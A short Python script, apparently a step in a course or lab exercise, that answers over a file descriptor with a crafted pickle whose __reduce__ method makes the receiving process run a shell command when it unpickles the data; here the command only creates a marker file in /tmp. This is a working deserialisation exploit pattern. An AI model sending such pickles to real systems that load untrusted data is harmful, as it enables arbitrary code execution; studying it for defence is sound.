"""Step 03. Answers with a pickle that runs a command where it is read."""

import os
import pickle
import struct
import sys


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/gpt2-course-pickled",)


data = pickle.dumps(Bomb())
os.write(int(sys.argv[2]), struct.pack("<I", len(data)) + data)
